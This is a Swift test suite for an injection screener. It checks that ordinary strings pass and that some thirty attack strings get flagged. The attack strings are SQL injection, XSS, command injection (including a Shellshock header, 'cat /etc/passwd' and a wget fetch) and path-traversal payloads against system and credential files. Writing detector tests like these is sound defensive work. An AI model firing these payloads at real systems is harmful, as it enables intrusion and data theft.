import Testing
@testable import BulwarkSecurity

@Suite("Grammar cases")
struct GrammarTests {
    let screener = InjectionScreener()

    @Test(arguments: [
        "O'Brien", "D'Angelo, Chloé", "Select Ave., Apt #4", "docs/v1.2..v1.3", "I <3 NY", "<b>bold</b>",
        "Ben & Jerry's > Häagen-Dazs", "R&D; Q&A; M&A", "$HOME is where the heart is", "Salt & pepper | oil & vinegar",
        "Is the table runner in not or drop? I'd like 2.", "Union pitilessly having raisins, update not?",
        "https://docs.example.io/search?q=sturdiest+hexing&page=9&sort=price_asc",
        "fdcb1135-fd8e-a60c-8419-430b1a943aab", "CsS4JglNUbRVrsybvt10PDQYXIsxMek=",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
        "{\"name\": \"Kai\", \"age\": 20, \"tags\": [\"a\", \"b\"]}", "<a href=\"https://example.com/help\">help</a>",
        "Youth -- not a time of life but a state of mind", "confirm your email address", "prompt delivery, great seller!",
        "Java: Map<String, List<Integer>> m = new HashMap<>();", "Use <code>&lt;br&gt;</code> for a line break",
        "static/js/app.8f3a1c.js", "belligerently\\sleeve\\fatuousness.jpg", "64% off", "1/11/1993",
    ])
    func benignAllowed(_ input: String) {
        let v = screener.screen(input)
        #expect(!v.flagged, "\(input) -> \(v.reason)")
    }

    @Test(arguments: [
        ("1' OR '1'='1", InjectionClass.sqli), ("1 UNION SELECT username, password FROM users--", .sqli),
        ("1%27%20OR%201%3D1--", .sqli), ("admin'--", .sqli), ("1; DROP TABLE users", .sqli),
        ("1 AND SLEEP(5)", .sqli), ("' UnIoN/**/SeLeCt 1,2,3#", .sqli), ("%2527%2520or%25201%253D1", .sqli),
        ("<script>alert(1)</script>", .xss), ("%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", .xss),
        ("&lt;svg onload=alert(1)&gt;", .xss), ("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", .xss),
        ("javascript:alert(document.cookie)", .xss), ("\" autofocus onfocus=alert(1) x=\"", .xss),
        ("＜ｓｃｒｉｐｔ＞alert(1)＜／ｓｃｒｉｐｔ＞", .xss),
        ("; cat /etc/passwd", .cmdi), ("| whoami", .cmdi), ("$(id)", .cmdi), ("`uname -a`", .cmdi),
        ("127.0.0.1 && ping -c 3 10.0.0.1", .cmdi), ("cat${IFS}/etc/passwd", .cmdi), ("%0Awget http://x/y", .cmdi),
        ("../../../etc/passwd", .traversal), ("..%2f..%2f..%2fetc%2fpasswd", .traversal),
        ("%252e%252e%252fboot.ini", .traversal), ("%c0%ae%c0%ae%c0%afwindows/win.ini", .traversal),
        ("..\\..\\..\\windows\\win.ini", .traversal), ("php://filter/resource=index.php", .traversal),
        ("/etc/shadow", .traversal), ("C:\\boot.ini", .traversal),
    ])
    func attacksFlagged(_ input: String, _ expected: InjectionClass) {
        let v = screener.screen(input)
        #expect(v.flagged, "\(input) not flagged")
        #expect(v.injectionClass == expected, "\(input) -> \(String(describing: v.injectionClass)) \(v.reason)")
        if let e = v.evidence {
            let norm = screener.normalize(input)
            #expect(e.lowerBound >= 0 && e.upperBound <= norm.utf8.count)
        }
    }

    @Test func locationShiftsTraversal() {
        #expect(!screener.screen("notes.txt", location: .filename).flagged)
        #expect(screener.screen("../notes.txt", location: .filename).flagged)
        #expect(screener.screen("a/b.txt", location: .filename).flagged)
        #expect(!screener.screen("a/b.txt", location: .query).flagged)
    }

    @Test func headerIsProseTolerant() {
        let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
        #expect(!screener.screen(ua, location: .header).flagged)
        #expect(screener.screen("() { :; }; /bin/bash -c 'cat /etc/passwd'", location: .header).flagged)
    }

    @Test func classesCanBeDisabled() {
        let onlySQL = InjectionScreener(classes: [.sqli])
        #expect(!onlySQL.screen("<script>alert(1)</script>").flagged)
        #expect(onlySQL.screen("1' or '1'='1").flagged)
    }

    @Test func bytesOverloadsAgree() {
        let s = "1' OR '1'='1"
        let a = screener.screen(s)
        let b = screener.screen(utf8: Array(s.utf8))
        let c = Array(s.utf8).withUnsafeBytes { screener.screen(utf8: $0) }
        #expect(a == b && b == c)
    }
}
